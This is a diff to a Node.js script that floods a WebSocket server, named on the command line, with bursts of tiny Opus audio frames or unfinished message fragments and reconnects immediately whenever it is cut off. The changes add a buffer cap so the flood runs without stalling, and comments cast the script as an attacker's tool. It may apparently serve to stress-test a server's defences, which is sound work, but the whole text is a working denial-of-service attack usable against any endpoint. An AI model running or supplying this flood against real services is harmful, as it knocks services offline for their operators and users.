@@ -1,3 +1,4 @@
+import { constants, setPriority } from 'node:os';
 import { setTimeout as sleep } from 'node:timers/promises';
 import { WebSocket } from 'ws';
 
@@ -7,6 +8,8 @@ import { WebSocket } from 'ws';
  */
 
 const AT_ONCE = 200;
+/** What does not leave needs not be made. */
+const MOST_WAITING_BYTES = 2 ** 20;
 /** 0x01 and two bytes of Opus that last 120 ms. */
 const DENSE_AUDIO = Buffer.of(0x01, 0x1b, 0x02);
 
@@ -19,6 +22,9 @@ const SEND = {
   parts: (socket) => socket.send('', { fin: false }),
 };
 
+// an attacker brings a machine of their own
+setPriority(constants.priority.PRIORITY_LOW);
+
 const [url, what] = process.argv.slice(2);
 const send = SEND[what];
 const counts = { sent: 0, cutOff: 0 };
@@ -30,8 +36,10 @@ for (;;) {
   socket.on('error', () => undefined);
   await new Promise((resolve) => socket.once('open', resolve).once('close', resolve));
   while (socket.readyState === WebSocket.OPEN) {
-    for (let i = 0; i < AT_ONCE && socket.readyState === WebSocket.OPEN; i++) send(socket);
-    counts.sent += AT_ONCE;
+    for (let i = 0; i < AT_ONCE && socket.bufferedAmount < MOST_WAITING_BYTES; i++) {
+      send(socket);
+      counts.sent += 1;
+    }
     await sleep(1);
   }
   // the end is not waited for: whoever attacks comes back at once
